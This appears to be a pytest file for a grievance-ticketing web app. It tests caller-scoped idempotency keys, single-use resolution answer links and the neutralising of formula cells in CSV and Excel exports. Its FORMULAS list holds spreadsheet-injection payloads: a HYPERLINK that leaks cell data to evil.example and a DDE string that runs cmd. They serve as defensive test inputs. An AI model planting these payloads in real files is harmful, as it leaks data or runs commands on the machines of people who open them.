"""The web app's doors as an attacker tries them (issue 15): idempotency keys that belong to
their caller, the status lookup kept out of URLs, headers against framing and downgrades,
request-body limits, one-resolution answer links, formula cells in exports, and downloads
that never render a citizen's file as a page."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import select

from tests.helpers import FakeClock, client_for, file, make_jobs, officer_by_email, outbox_file, sign_in
from tests.test_api import error_of, token_for
from ticketing.citizen import answer_resolution, grievance_for_link
from ticketing.db import Store
from ticketing.models import Complainant, Grievance, Officer
from ticketing.services import Actor, acknowledge, resolve
from ticketing.tables import HEADER_ROW, Document, Table, to_csv, to_xlsx

# --- idempotency keys belong to their caller ---


def post_grievance(client: Any, token: dict[str, str], **fields: Any) -> Any:
    body = {"project_code": "KKR-01", "details": "Told at the site office: the culvert floods our yard."} | fields
    return client.post("/api/v1/grievances", json=body, headers=token)


def test_another_callers_idempotency_key_never_returns_their_case(demo: Store, clock: FakeClock) -> None:
    client = client_for(demo)
    gender_desk = token_for(demo, clock, "gender.kkr@grm.example")
    told = "A worker at the camp follows my daughter home every evening."
    first = post_grievance(
        client, gender_desk, details=told, category_code="gender.harassment", idempotency_key="visit-2026-01-05"
    )
    assert first.status_code == 201
    contractor = token_for(demo, clock, "contractor.kkr@grm.example")
    second = post_grievance(
        client, contractor, name="Mohan Shah", phone="9841000999", idempotency_key="visit-2026-01-05"
    )
    assert second.status_code == 201
    answer = second.get_json()
    assert answer["reference"] != first.get_json()["reference"]
    assert told not in second.get_data(as_text=True) and answer["details"].startswith("Told at the site office")
    with demo.sessions() as session:
        assert session.query(Grievance).count() == 2


def test_a_replayed_key_returns_the_callers_case_and_writes_no_contact_details(demo: Store, clock: FakeClock) -> None:
    client = client_for(demo)
    manager = token_for(demo, clock, "manager.kkr@grm.example")
    person = {"name": "Hari Magar", "phone": "9841000123", "email": "hari@example.org"}
    first = post_grievance(client, manager, idempotency_key="desk-17", **person)
    replay = post_grievance(
        client, manager, idempotency_key="desk-17", name="Someone Else", phone="9841000123", email="x@example.org"
    )
    assert replay.get_json()["reference"] == first.get_json()["reference"]
    with demo.sessions() as session:
        complainant = session.scalars(select(Complainant)).one()
        assert (complainant.name, complainant.email) == ("Hari Magar", "hari@example.org")


def test_an_overlong_idempotency_key_is_refused_politely(demo: Store, clock: FakeClock) -> None:
    client = client_for(demo)
    manager = token_for(demo, clock, "manager.kkr@grm.example")
    refused = post_grievance(client, manager, name="Hari Magar", phone="9841000123", idempotency_key="k" * 101)
    assert refused.status_code == 422 and error_of(refused)["field"] == "idempotency_key"


# --- a resolution link answers its own resolution only ---


def links_sent(store: Store, reference: str) -> list[str]:
    """The answer tokens of the resolution messages the citizen got, oldest first."""
    sent = [json.loads(line) for line in outbox_file(store).read_text().splitlines()]
    bodies = [m["body"] for m in sent if m["subject"] == f"Grievance {reference} resolved - are you satisfied?"]
    return [found.group(1) for body in bodies if (found := re.search(r"/chat\?resume=(\S+)", body))]


def test_a_link_from_an_earlier_resolution_does_not_answer_a_later_one(demo: Store, clock: FakeClock) -> None:
    jobs = make_jobs(demo, clock)
    grievance = file(demo, clock)
    site = Actor.officer(officer_by_email(demo, "site.kkr@grm.example"))
    with demo.sessions.begin() as session:
        acknowledge(session, clock, grievance.id, site)
        resolve(session, clock, grievance.id, site, "Water is sprayed twice a day now.")
    jobs.plan()
    jobs.dispatch()
    clock.advance(hours=2)
    with demo.sessions.begin() as session:
        answer_resolution(session, clock, grievance.id, accepted=False, reason="Still dusty at night.")
    clock.advance(hours=2)
    piu = Actor.officer(officer_by_email(demo, "piu.kkr@grm.example"))
    with demo.sessions.begin() as session:
        acknowledge(session, clock, grievance.id, piu)
        resolve(session, clock, grievance.id, piu, "A water truck now passes every evening too.")
    jobs.plan()
    jobs.dispatch()
    first, second = links_sent(demo, grievance.reference)
    with demo.sessions() as session:
        assert grievance_for_link(session, first, clock.now()) is None
        latest = grievance_for_link(session, second, clock.now())
        assert latest is not None and latest.awaits_answer and (latest.resolution or "").startswith("A water truck")


# --- formula cells in CSV and Excel files ---

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_tables_neutralise_cells_a_spreadsheet_would_run() -> None:
    texts = [*FORMULAS, "\tTAB", "\rCR", "plain words", "GR-ABCD-EFGH"]
    document = Document(
        "=title", "+subtitle", [Table("Sheet", "@table", ("=header",), [(t,) for t in texts] + [(-5,)])]
    )
    rows = list(csv.reader(io.StringIO(to_csv(document).decode("utf-8-sig"))))
    assert rows[0] == ["'=header"]
    assert [row[0] for row in rows[1:]] == [*("'" + t for t in texts[:6]), "plain words", "GR-ABCD-EFGH", "-5"]
    sheet = load_workbook(io.BytesIO(to_xlsx(document))).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=1)]
    assert all(cell.data_type != "f" for cell in cells)
    assert [cell.value for cell in cells] == [
        "'=title",
        "'+subtitle",
        None,
        "'=header",
        *("'" + t.replace("\r", "\n") for t in texts[:6]),  # XML reads a carriage return as a line feed
        "plain words",
        "GR-ABCD-EFGH",
        -5,
    ]


def test_the_backoffices_exports_neutralise_an_officers_formula_name(demo: Store, clock: FakeClock) -> None:
    case = file(demo, clock)
    with demo.sessions.begin() as session:
        officer = session.scalars(select(Officer).where(Officer.email == "site.kkr@grm.example")).one()
        officer.name = FORMULAS[0]
        session.get_one(Grievance, case.id).assignee_id = officer.id
    admin = client_for(demo)
    assert sign_in(admin, "admin@grm.example") == 302
    exported = admin.get("/admin/grievance/export/csv/").get_data(as_text=True)
    [row] = [row for row in csv.reader(io.StringIO(exported.lstrip("\ufeff"))) if case.reference in row]
    assert "'" + FORMULAS[0] in row and FORMULAS[0] not in row
    sheet = load_workbook(io.BytesIO(admin.get("/admin/grievance/export/xlsx/").data)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert [(cell.value, cell.data_type) for cell in cells] == [("'" + FORMULAS[0], "s")]


def test_the_audit_log_exports_to_excel(demo: Store, clock: FakeClock) -> None:
    file(demo, clock)
    admin = client_for(demo)
    assert sign_in(admin, "admin@grm.example") == 302
    exported = admin.get("/admin/audit/export/xlsx/")
    assert exported.status_code == 200
    sheet = load_workbook(io.BytesIO(exported.data)).active
    assert sheet is not None and [cell.value for cell in sheet[HEADER_ROW]][:2] == ["At", "Actor Kind"]
